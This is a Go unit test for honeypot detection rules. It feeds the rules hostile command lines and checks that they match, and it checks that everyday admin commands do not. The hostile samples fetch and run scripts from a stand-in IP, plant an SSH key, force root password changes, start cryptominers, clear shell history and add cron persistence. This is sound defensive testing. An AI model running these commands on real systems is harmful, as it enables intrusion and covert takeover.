package rules

import (
	"slices"
	"testing"
)

// TestBuiltinRules runs the shipped rules over command lines bots type in honeypots (each must
// hit the named sid) and over everyday administration (none may hit).
func TestBuiltinRules(t *testing.T) {
	rs, errs := Load(BuiltinName, Builtin(), DefaultVars("any", "any"))
	if len(errs) != 0 {
		t.Fatalf("the shipped rules must all load: %v", errs)
	}
	s := NewSet(rs)
	sidsOf := func(input string) []int {
		var out []int
		for _, h := range hits(s, cmd("e", input)) {
			out = append(out, h.Rule.SID)
		}
		return out
	}
	for _, c := range []struct {
		input string
		sid   int
	}{
		{"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh | sh", 9100001},
		{"curl -s http://203.0.113.9/x.sh | bash", 9100001},
		{"curl -fsSL http://203.0.113.9/i | sudo bash -s", 9100001},
		{"wget -qO- http://203.0.113.9/a|sh", 9100001},
		{"cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh", 9100002},
		{"curl -o .x http://203.0.113.9/x && chmod +x .x && ./.x", 9100002},
		{"tftp -g -r tftp1.sh 203.0.113.9; chmod 777 tftp1.sh; ./tftp1.sh", 9100002},
		{"chmod +x xmr && ./xmr -o pool", 9100003},
		{"chmod 755 .s; ./.s", 9100003},
		{"/bin/busybox wget http://203.0.113.9/mips -O- > .d", 9100004},
		{"busybox tftp -r m -g 203.0.113.9", 9100004},
		{`echo -ne "\x7f\x45\x4c\x46\x01\x01\x01\x00\x00" > .d`, 9100005},
		{`cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`, 9100010},
		{`echo "ssh-ed25519 AAAAC3Nz x@y" >> /root/.ssh/authorized_keys`, 9100011},
		{`echo key | tee -a ~/.ssh/authorized_keys`, 9100011},
		{"cd ~; chattr -ia .ssh; lockr -ia .ssh", 9100012},
		{`echo "root:Xk9pass2026"|chpasswd|bash`, 9100020},
		{`echo -e "123456\n123456" | passwd`, 9100021},
		{"./xmrig -o stratum+tcp://pool.example.test:3333 -u wallet", 9100030},
		{"nohup ./xmrig --donate-level 1 &", 9100031},
		{"./x -o pool.supportxmr.com:443 -u 4A...", 9100032},
		{"/bin/busybox ECCHI", 9100040},
		{"enable", 9100041},
		{"history -c", 9100050},
		{"unset HISTFILE", 9100050},
		{"export HISTFILE=/dev/null", 9100050},
		{"HISTSIZE=0", 9100050},
		{"rm -rf ~/.bash_history", 9100051},
		{"cat /dev/null > ~/.bash_history", 9100051},
		{"ln -sf /dev/null /root/.bash_history", 9100051},
		{`(crontab -l 2>/dev/null; echo "* * * * * /tmp/.x") | crontab -`, 9100060},
		{"crontab /tmp/.c", 9100060},
		{`echo "*/5 * * * * root /tmp/.x" >> /etc/crontab`, 9100061},
		{`echo x > /etc/cron.d/sysupdate`, 9100061},
		{`echo "@reboot /tmp/.x" >> c`, 9100062},
	} {
		if got := sidsOf(c.input); !slices.Contains(got, c.sid) {
			t.Errorf("%q hit %v, want sid %d", c.input, got, c.sid)
		}
	}
	for _, benign := range []string{
		"ls -la", "uname -a", "cat /proc/cpuinfo", "wget https://deb.debian.org/debian/README",
		"curl -o file.tar.gz https://example.test/file.tar.gz", "chmod +x script.sh", "sh script.sh",
		"crontab -l", "crontab -e", "history", "history | grep ssh", "cat ~/.bash_history", "passwd",
		"cat ~/.ssh/authorized_keys", "ssh-copy-id user@host", "busybox ls", "systemctl status cron",
		"grep -r password /etc", "echo hello | wc -c", "ps aux | grep miner", "top", "free -m",
		"apt-get install -y curl", "echo $SHELL", "export PATH=$PATH:/usr/local/bin", "wc -l < file",
		"cat /etc/crontab", "ls /etc/cron.d", "cp a b && ./configure", "tar xzf x.tgz; cd x; make",
	} {
		if got := sidsOf(benign); len(got) != 0 {
			t.Errorf("everyday command %q hit %v", benign, got)
		}
	}
}
